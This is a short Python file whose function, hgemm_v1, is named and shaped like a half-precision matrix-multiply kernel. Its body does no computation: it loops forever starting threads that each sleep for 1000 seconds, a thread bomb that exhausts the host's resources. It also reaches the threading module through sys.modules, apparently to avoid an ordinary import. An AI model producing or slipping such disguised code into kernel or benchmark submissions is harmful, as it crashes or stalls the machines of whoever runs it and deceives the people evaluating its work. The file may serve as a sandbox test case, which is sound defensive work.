"""Start threads."""

import sys
import time

threading = sys.modules["threading"]


def hgemm_v1(M, N, K, dtype="float16"):
    while True:
        threading.Thread(target=time.sleep, args=(1000,)).start()
